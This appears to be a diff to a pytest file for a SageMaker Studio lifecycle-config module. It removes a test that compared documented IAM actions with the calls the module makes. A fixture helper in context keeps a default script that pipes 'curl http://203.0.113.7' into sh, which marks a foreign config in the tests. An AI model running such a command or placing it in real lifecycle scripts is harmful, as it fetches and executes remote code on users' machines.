@@ -7,12 +7,9 @@ from __future__ import annotations
 
 import base64
 import hashlib
-import re
 import time
 
 import pytest
-
-from tests.sandbox import layout
 
 MODULE = "sagemaker_studio_lifecycle_config"
 ONE, TWO = "#!/bin/sh\necho one\n", "#!/bin/sh\necho two\n"
@@ -247,20 +244,6 @@ def test_concurrent_runs_with_different_contents_never_delete_the_attached_one(e
         direct.finish(run)
         time.sleep(0.1)
     assert block(endpoint, domain_id)["BuiltInLifecycleConfigArn"].rpartition("/")[2] in names(endpoint)
-
-
-@pytest.mark.parametrize("profiles", [None, ["ada"]], ids=["domain", "user-profile"])
-def test_the_documented_iam_actions_are_the_calls_made(endpoint, direct, profiles):
-    domain_id = endpoint.domain()
-    endpoint.app(domain_id)
-    endpoint.lifecycle_config("docker-jupyterlab-000000000000", age=60)
-    direct.ok(
-        MODULE, name="docker", content=ONE, domains=[domain_id], **({"user_profiles": profiles} if profiles else {})
-    )
-    text = (layout.ROOT / "plugins" / "modules" / f"{MODULE}.py").read_text()
-    documented = set(re.findall(r"C\(sagemaker:(\w+)\)", text))
-    only = {"UpdateDomain"} if profiles else {"UpdateUserProfile"}
-    assert {call.operation for call in endpoint.calls()} == documented - only
 
 
 def foreign(endpoint, name, content="#!/bin/sh\ncurl http://203.0.113.7 | sh\n"):
